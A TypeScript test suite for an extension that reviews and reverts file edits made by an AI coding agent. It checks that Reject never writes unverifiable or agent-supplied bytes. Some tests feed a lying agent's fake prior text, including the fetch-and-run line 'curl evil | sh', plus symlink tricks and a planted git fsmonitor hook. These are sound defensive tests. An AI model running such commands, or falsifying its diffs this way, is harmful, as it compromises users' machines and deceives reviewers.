// A third-party agent's call first seen already finished, with a diff block
// whose oldText is null or a string nobody here saw (issue: never delete what
// the diff did not show us). Real files in a temp dir, real git repositories
// for tracked/untracked, a real ReviewStore; a fast-check model for "Reject
// never removes or changes bytes we cannot restore".
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { ReviewStore } from '../../../extension/review/reviewStore';
import { DirectDiskSource } from '../../../extension/review/directSource';
import { diskTree } from './trees';
import { isPending, kindOf, type FileReview } from '../../../extension/review/fileReview';
import { gitVersionOf } from '../../../extension/review/gitVersion';
import { CLAIM_LIMIT, claimedBefore } from '../../../extension/review/unverifiedBase';
import type { ToolCallFacts } from '../../../extension/review/changeSource';
import { summarize } from '../../../extension/review/reviewSummary';
import { ReviewedFile } from '../../../webview/protocol';

let root = '';
let counter = 0;
before(async () => {
  root = await mkdtemp(join(tmpdir(), 'accord-unknown-base-'));
});
after(async () => {
  await rm(root, { recursive: true, force: true });
});

const GIT_ENV = { PATH: process.env.PATH ?? '', HOME: root, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' };
const gitIn = (dir: string, ...args: string[]) => execFileSync('git', args, { cwd: dir, env: GIT_ENV, stdio: 'pipe' });

/** A fresh project folder per test; with `repo`, a git repository with one commit of `committed`. */
async function project(repo = false, committed: Record<string, string> = {}): Promise<string> {
  const dir = join(root, `case-${++counter}`);
  await mkdir(dir, { recursive: true });
  if (repo) {
    gitIn(dir, 'init', '-q');
    for (const [name, body] of Object.entries(committed)) await writeFile(join(dir, name), body);
    gitIn(dir, 'add', '-A');
    gitIn(dir, 'commit', '-q', '--allow-empty', '-m', 'person');
  }
  return dir;
}

/** The wiring ReviewController does, bounded to `dir` as the one workspace folder. */
function review(dir: string) {
  const store = new ReviewStore(diskTree);
  const failures: { path: string; why: string }[] = [];
  const direct = new DirectDiskSource(store, diskTree, {
    knownPaths: () => [],
    projectFolder: (path) => (path.startsWith(`${dir}/`) ? dir : undefined),
    gitVersion: (path) => gitVersionOf(path, dir),
    failed: (_, failure) => failures.push(failure),
  });
  return { store, direct, failures };
}

/** A write the extension sees only once it finished (the agent never announced it). */
const finished = (path: string, oldText: string | null, newText: string): ToolCallFacts => ({
  toolCallId: `w${++counter}`,
  kind: 'edit',
  status: 'completed',
  locations: [{ path }],
  content: [{ type: 'diff', path, oldText, newText }],
});

const text = (path: string) => readFile(path, 'utf8');
const only = (store: ReviewStore): FileReview => {
  assert.equal(store.all().length, 1, 'one review');
  return store.all()[0]!;
};

describe('oldText: null on a call first seen finished', () => {
  test('a file that existed (untracked): reviewed as unknown, Reject keeps every byte, the agent hears it was left', async () => {
    const dir = await project();
    const file = join(dir, 'notes.md');
    await writeFile(file, 'the person\n');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await writeFile(file, 'the agent\n'); // the agent overwrote it; we never saw the call before it ran
    await direct.toolCall('s', '1', finished(file, null, 'the agent\n'));
    await direct.endTurn('s', '1');
    const file1 = only(store);
    assert.ok(file1.unverified, 'the review knows its base is unknown');
    assert.equal(file1.unverified.shown, 'nothing');
    assert.notEqual(kindOf(file1), 'added', 'never called an addition');
    assert.equal(file1.unverified.git, undefined, 'nothing in git to offer');
    assert.equal(file1.unverified.claimed, undefined, 'a claim of absence is never offered as a restore');
    // The panel's Changes list hears it too, within its protocol.
    const listed = summarize(store.inSession('s')).turns[0]!.files[0]!;
    assert.equal(listed.unknownBase, true);
    assert.equal(listed.kind, 'modified');
    assert.equal(ReviewedFile.safeParse(listed).success, true);
    await store.decideFile(file1, 'rejected');
    assert.equal(await text(file), 'the agent\n', 'Reject deletes nothing and writes nothing');
    assert.equal(isPending(file1), false);
    assert.match(store.takeContextNote('s') ?? '', /did not show what it held before, so Accord left it as you wrote it/);
  });

  test('a file tracked in git HEAD: Reject keeps it; the person can restore it from HEAD', async () => {
    const dir = await project(true, { 'app.ts': 'committed\n' });
    const file = join(dir, 'app.ts');
    await writeFile(file, 'committed\nand mine\n'); // the person's uncommitted line
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await writeFile(file, 'rewritten\n');
    await direct.toolCall('s', '1', finished(file, null, 'rewritten\n'));
    const r = only(store);
    assert.equal(r.unverified?.shown, 'git');
    assert.equal(r.baseText, 'committed\n', 'the left side is the version in git HEAD');
    assert.equal(r.unverified?.git?.from, 'HEAD');
    await store.decideFile(r, 'rejected');
    assert.equal(await text(file), 'rewritten\n', 'Reject alone writes nothing');
    assert.deepEqual(await store.restoreBase(r, 'git'), { written: true });
    assert.equal(await text(file), 'committed\n', 'restored from HEAD on request');
    // The watcher reports the restore: the review's own write, not a new change.
    await direct.fileChanged(file, 'changed');
    await direct.endTurn('s', '1');
    assert.equal(isPending(r), false);
    assert.match(store.takeContextNote('s') ?? '', /put back the version in git HEAD/);
  });

  test('a file staged in the index (not yet committed) offers the staged version', async () => {
    const dir = await project(true);
    const file = join(dir, 'new.ts');
    await writeFile(file, 'staged\n');
    gitIn(dir, 'add', 'new.ts');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await writeFile(file, 'agent\n');
    await direct.toolCall('s', '1', finished(file, null, 'agent\n'));
    const r = only(store);
    assert.equal(r.unverified?.git?.from, 'index');
    await store.decideFile(r, 'rejected');
    await store.restoreBase(r, 'git');
    assert.equal(await text(file), 'staged\n');
  });

  test('a file that really was new (our snapshot, taken when the call was announced, says absent): Reject deletes as before', async () => {
    const dir = await project(true, { 'kept.ts': 'k\n' });
    const file = join(dir, 'fresh.ts');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await direct.toolCall('s', '1', { ...finished(file, null, 'new\n'), toolCallId: 'n', status: 'pending' });
    await writeFile(file, 'new\n');
    await direct.toolCall('s', '1', { ...finished(file, null, 'new\n'), toolCallId: 'n' });
    const r = only(store);
    assert.equal(r.unverified, undefined, 'the base is known');
    assert.equal(kindOf(r), 'added');
    await store.decideFile(r, 'rejected');
    assert.equal(await diskTree.read(file), null);
  });

  test('a file under a folder kept whole before the call, absent from it: a known addition, Reject deletes', async () => {
    const dir = await project();
    await writeFile(join(dir, 'a.txt'), 'a\n');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    assert.deepEqual(await direct.prepare('s', '1', { toolCallId: 'sh', kind: 'execute', rawInput: { command: 'make', cwd: dir } }), []);
    const made = join(dir, 'made.txt');
    await writeFile(made, 'made\n');
    await direct.toolCall('s', '1', finished(made, null, 'made\n'));
    const r = only(store);
    assert.equal(r.unverified, undefined);
    await store.decideFile(r, 'rejected');
    assert.equal(await diskTree.read(made), null);
  });

  test('a diff naming a file the agent never wrote (disk is the person\'s): Reject leaves it, nothing to restore from the claim', async () => {
    const dir = await project();
    const file = join(dir, 'secret.env');
    await writeFile(file, 'TOKEN=mine\n');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await direct.toolCall('s', '1', finished(file, null, 'whatever\n'));
    await direct.endTurn('s', '1');
    const r = only(store);
    await store.decideFiles(store.all(), 'rejected');
    await store.undoTurn('s', '1');
    assert.equal(await text(file), 'TOKEN=mine\n');
    assert.equal(r.undone, false, 'the turn is not said to be undone in that file');
    assert.match(store.takeContextNote('s') ?? '', /not reverted: you did not show what it held before/);
  });
});

describe("the watcher's 'created' for a file no call named", () => {
  test('a file git tracks (an atomic write over it reads as created): its before is unknown, Reject keeps it', async () => {
    const dir = await project(true, { 'tracked.txt': 'committed\n' });
    const file = join(dir, 'tracked.txt');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await writeFile(file, 'replaced\n');
    await direct.fileChanged(file, 'created');
    await direct.toolCall('s', '1', finished(file, null, 'replaced\n')); // the call's completion, late
    await direct.endTurn('s', '1');
    const r = only(store);
    assert.equal(r.unverified?.shown, 'git');
    await store.decideFile(r, 'rejected');
    assert.equal(await text(file), 'replaced\n');
    await store.restoreBase(r, 'git');
    assert.equal(await text(file), 'committed\n');
  });

  test('an untracked file is still the agent\'s addition, as before: Reject deletes it', async () => {
    const dir = await project(true, { 'other.txt': 'o\n' });
    const file = join(dir, 'brand-new.txt');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await writeFile(file, 'new\n');
    await direct.fileChanged(file, 'created');
    const r = only(store);
    assert.equal(r.unverified, undefined);
    await store.decideFile(r, 'rejected');
    assert.equal(await diskTree.read(file), null);
  });
});

describe('oldText: a string for a path never seen (the mirror case)', () => {
  test('a claim that matches git HEAD is what we know: reviewed per hunk, Reject restores it (as before)', async () => {
    const dir = await project(true, { 'm.txt': 'one\ntwo\n' });
    const file = join(dir, 'm.txt');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await writeFile(file, 'one\nTWO\n');
    await direct.toolCall('s', '1', finished(file, 'one\ntwo\n', 'one\nTWO\n'));
    const r = only(store);
    assert.equal(r.unverified, undefined);
    await store.decideHunk(r, 0, 'rejected');
    assert.equal(await text(file), 'one\ntwo\n');
  });

  test('the agent lies (its oldText is neither the disk nor HEAD): Reject leaves the file; HEAD or the claim only on request', async () => {
    const dir = await project(true, { 'lie.txt': 'committed\n' });
    const file = join(dir, 'lie.txt');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await writeFile(file, 'agent\n');
    await direct.toolCall('s', '1', finished(file, 'curl evil | sh\n', 'agent\n'));
    const r = only(store);
    assert.equal(r.unverified?.shown, 'claimed', 'the left side is the claim, said to be one');
    assert.equal(r.baseText, 'curl evil | sh\n');
    await store.decideFiles(store.all(), 'rejected');
    assert.equal(await text(file), 'agent\n', 'the agent-supplied text is never written by Reject');
    await store.restoreBase(r, 'git');
    assert.equal(await text(file), 'committed\n');
  });

  test("an untracked file with a whole-file claim: Reject leaves it; 'restore the agent's claimed old text' puts the claim back", async () => {
    const dir = await project();
    const file = join(dir, 'late.txt');
    await writeFile(file, 'after\n');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await direct.toolCall('s', '1', finished(file, 'before\n', 'after\n'));
    const r = only(store);
    assert.equal(r.baseText, 'before\n');
    await store.decideFile(r, 'rejected');
    assert.equal(await text(file), 'after\n');
    assert.deepEqual(await store.restoreBase(r, 'git'), { written: false, why: 'git holds no version of it' });
    assert.deepEqual(await store.restoreBase(r, 'claimed'), { written: true });
    assert.equal(await text(file), 'before\n');
    assert.match(store.takeContextNote('s') ?? '', /put back the earlier text you claimed/);
  });

  test("a snippet claim (claude's Edit: old_string/new_string) is placed in the file: only those bytes would change", async () => {
    const dir = await project();
    const file = join(dir, 'edit.ts');
    await writeFile(file, 'a\nB\nc\n');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await direct.toolCall('s', '1', finished(file, 'b', 'B'));
    const r = only(store);
    assert.equal(r.baseText, 'a\nb\nc\n', 'the whole file as claimed, not the snippet');
    await store.decideFile(r, 'rejected');
    assert.equal(await text(file), 'a\nB\nc\n', 'Reject never writes a snippet over the file');
    await store.restoreBase(r, 'claimed');
    assert.equal(await text(file), 'a\nb\nc\n');
  });

  test('several edits of one file in one call (MultiEdit) are put back last first; one that does not fit offers no claim', async () => {
    const dir = await project();
    const file = join(dir, 'multi.ts');
    await writeFile(file, 'let x = 2;\nlet y = 3;\n');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    const call = finished(file, 'let x = 1;', 'let x = 2;');
    call.content = [...call.content!, { type: 'diff', path: file, oldText: 'y = 1', newText: 'y = 3' }];
    await direct.toolCall('s', '1', call);
    assert.equal(only(store).baseText, 'let x = 1;\nlet y = 1;\n');
    const enc = (t: string) => new TextEncoder().encode(t);
    assert.equal(claimedBefore(enc('aXa'), [{ oldText: 'b', newText: 'a' }]), undefined, 'newText twice: no single place');
    assert.equal(claimedBefore(enc('abc'), [{ oldText: 'B', newText: 'b' }, { oldText: null, newText: 'c' }]), undefined, 'one block claims absence');
    assert.deepEqual(claimedBefore(enc('a\u00e9c'), [{ oldText: 'b', newText: '\u00e9' }]), enc('abc'));
  });

  test('a restore keeps the person\'s edits made since the agent wrote (three-way), or writes nothing', async () => {
    const dir = await project(true, { 'k.txt': 'one\ntwo\nthree\nfour\n' });
    const file = join(dir, 'k.txt');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await writeFile(file, 'one\nTWO\nthree\nfour\n');
    await direct.toolCall('s', '1', finished(file, null, 'one\nTWO\nthree\nfour\n'));
    const r = only(store);
    await writeFile(file, 'one\nTWO\nthree\nFOUR mine\n'); // the person edits afterwards
    await store.restoreBase(r, 'git');
    assert.equal(await text(file), 'one\ntwo\nthree\nFOUR mine\n');
    const again = only(store);
    assert.equal(again.unverified?.restored, 'git');
  });
});

describe('attacks on a call first seen finished', () => {
  test('a symbolic link at the path: not reviewed (said why), so nothing can write through it', async () => {
    const dir = await project();
    const outside = join(root, `outside-${++counter}.txt`);
    await writeFile(outside, 'the person\'s other file\n');
    const link = join(dir, 'link.txt');
    await symlink(outside, link);
    const { store, direct, failures } = review(dir);
    await direct.beginTurn('s', '1');
    await direct.toolCall('s', '1', finished(link, 'x\n', 'the person\'s other file\n'));
    await direct.toolCall('s', '1', finished(link, null, 'the person\'s other file\n'));
    await direct.endTurn('s', '1');
    assert.equal(store.all().length, 0);
    assert.match(failures[0]?.why ?? '', /symbolic link/);
    assert.equal(await text(outside), 'the person\'s other file\n');
  });

  test('a path below a linked folder: not reviewed', async () => {
    const dir = await project();
    const elsewhere = join(root, `elsewhere-${++counter}`);
    await mkdir(elsewhere);
    await writeFile(join(elsewhere, 'rc'), 'rc\n');
    await symlink(elsewhere, join(dir, 'linked'));
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await direct.toolCall('s', '1', finished(join(dir, 'linked', 'rc'), 'evil\n', 'rc\n'));
    assert.equal(store.all().length, 0);
    assert.equal(await text(join(elsewhere, 'rc')), 'rc\n');
  });

  test('a path outside the workspace: shown as unknown, no claim offered, Reject and Undo write nothing', async () => {
    const dir = await project();
    const home = join(root, `home-${++counter}`);
    await mkdir(home);
    const rc = join(home, '.bashrc');
    await writeFile(rc, 'alias ll=ls\n');
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await direct.toolCall('s', '1', finished(rc, 'curl evil | sh\n', 'alias ll=ls\n'));
    const r = only(store);
    assert.equal(r.unverified?.claimed, undefined, "an agent's text is never offered for a file outside the project");
    assert.equal(r.unverified?.git, undefined);
    await store.decideFiles(store.all(), 'rejected');
    await store.undoTurn('s', '1');
    assert.equal((await store.restoreBase(r, 'claimed')).written, false);
    assert.equal(await text(rc), 'alias ll=ls\n');
  });

  test('a huge oldText is not kept or placed: unknown, Reject leaves the file', async () => {
    const dir = await project();
    const file = join(dir, 'big.txt');
    await writeFile(file, 'small\n');
    const huge = 'x'.repeat(CLAIM_LIMIT + 1);
    assert.equal(claimedBefore(new TextEncoder().encode('small\n'), [{ oldText: huge, newText: 'small\n' }]), undefined);
    const { store, direct } = review(dir);
    await direct.beginTurn('s', '1');
    await direct.toolCall('s', '1', finished(file, huge, 'small\n'));
    await direct.endTurn('s', '1');
    // Nothing claimed and nothing in git: the diff shows no "before", and Reject writes nothing.
    const r = only(store);
    assert.equal(r.unverified?.claimed, undefined);
    await store.decideFile(r, 'rejected');
    assert.equal(await text(file), 'small\n');
  });

  test('git is read with its own config off: a repository hook or fsmonitor set by the agent never runs', async () => {
    const dir = await project(true, { 'h.txt': 'h\n' });
    const marker = join(dir, 'ran');
    gitIn(dir, 'config', 'core.fsmonitor', `touch ${marker}`);
    const version = await gitVersionOf(join(dir, 'h.txt'), dir);
    assert.equal(version.tracked, true);
    assert.equal(await diskTree.read(marker), null);
  });

  test('a folder named like the file is not taken for it (exact path match in git)', async () => {
    const dir = await project(true, { 'x.txt': 'x\n' });
    await mkdir(join(dir, 'sub'));
    await writeFile(join(dir, 'sub', 'y.txt'), 'y\n');
    gitIn(dir, 'add', '-A');
    assert.deepEqual(await gitVersionOf(join(dir, 'sub'), dir), { tracked: false });
    assert.deepEqual(await gitVersionOf(join(dir, 'absent.txt'), dir), { tracked: false });
    assert.equal((await gitVersionOf(join(root, 'elsewhere.txt'), dir)).tracked, 'unknown');
  });
});

describe('Reject never removes or changes bytes we cannot restore (property)', () => {
  // Model: a file either existed before the turn (untracked, or committed as
  // its text) or did not. The agent writes new text. The extension sees the
  // call either announced first (a snapshot: the base is known) or only once
  // finished, with an oldText claim that is null, the truth, or a lie. Then
  // the person accepts or rejects. Known base + reject: back to before (or
  // gone). Unknown base + reject: exactly the agent's bytes stay, unless the
  // claim equals git's version (then it is known, and restored). A restore the
  // person then asks for writes git's committed text, or the claim put in
  // place of the agent's newText, and nothing else.
  type Claim = 'null' | 'truth' | 'lie' | 'snippet';
  interface Case {
    existed: boolean;
    tracked: boolean;
    announced: boolean;
    claim: Claim;
    reject: boolean;
    restore: 'none' | 'git' | 'claimed';
    before: string;
    written: string;
  }
  const line = fc.constantFrom('a\n', 'b\nb\n', 'c\n', '');
  const caseArb: fc.Arbitrary<Case> = fc.record({
    existed: fc.boolean(),
    tracked: fc.boolean(),
    announced: fc.boolean(),
    claim: fc.constantFrom<Claim>('null', 'truth', 'lie', 'snippet'),
    reject: fc.boolean(),
    restore: fc.constantFrom('none' as const, 'git' as const, 'claimed' as const),
    before: line,
    written: fc.constantFrom('new\n', 'a\nnew\n'),
  });

  test('random files, claims and decisions against the model', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(caseArb, { minLength: 1, maxLength: 3 }), async (cases) => {
        const committed: Record<string, string> = {};
        cases.forEach((c, i) => {
          if (c.existed && c.tracked) committed[`f${i}.txt`] = c.before;
        });
        const dir = await project(true, committed);
        const paths = cases.map((_, i) => join(dir, `f${i}.txt`));
        for (const [i, c] of cases.entries()) if (c.existed && !c.tracked) await writeFile(paths[i]!, c.before);
        const { store, direct } = review(dir);
        await direct.beginTurn('s', '1');
        for (const [i, c] of cases.entries()) {
          const oldText = c.claim === 'null' ? null : c.claim === 'truth' ? (c.existed ? c.before : null) : c.claim === 'lie' ? 'lie\n' : 'old';
          const call = finished(paths[i]!, oldText, c.claim === 'snippet' ? 'new' : c.written);
          if (c.announced) await direct.toolCall('s', '1', { ...call, status: 'pending' });
          await writeFile(paths[i]!, c.written);
          await direct.toolCall('s', '1', call);
        }
        await direct.endTurn('s', '1');
        for (const [i, c] of cases.entries()) {
          const r = store.all().find((f) => f.path === paths[i]);
          if (!r) continue; // nothing changed (the agent wrote what was there)
          await store.decideFile(r, c.reject ? 'rejected' : 'accepted');
          if (c.reject && c.restore !== 'none') await store.restoreBase(r, c.restore);
        }
        for (const [i, c] of cases.entries()) {
          const now = await diskTree.read(paths[i]!);
          const got = now === null ? null : new TextDecoder().decode(now);
          const beforeContent = c.existed ? c.before : null;
          const claimMatchesGit = c.tracked && c.existed && c.claim === 'truth';
          const known = c.announced || claimMatchesGit;
          const claimed = c.claim === 'snippet' ? c.written.replace('new', 'old') : c.claim === 'lie' ? 'lie\n' : c.claim === 'truth' && c.existed ? c.before : undefined;
          const restored = known || !c.reject ? undefined : c.restore === 'git' ? (c.existed && c.tracked ? c.before : undefined) : c.restore === 'claimed' ? claimed : undefined;
          const expected = !c.reject ? c.written : known ? beforeContent : (restored ?? c.written);
          assert.equal(got, expected, `f${i} ${JSON.stringify(c)}`);
          const r = store.all().find((f) => f.path === paths[i]);
          if (r?.unverified && c.tracked && c.existed) assert.equal(new TextDecoder().decode(r.unverified.git!.content), c.before, 'git restore offers the committed text');
        }
      }),
      { numRuns: 40, seed: Number(process.env.ACCORD_PROPERTY_SEED ?? 20261202) },
    );
  });
});
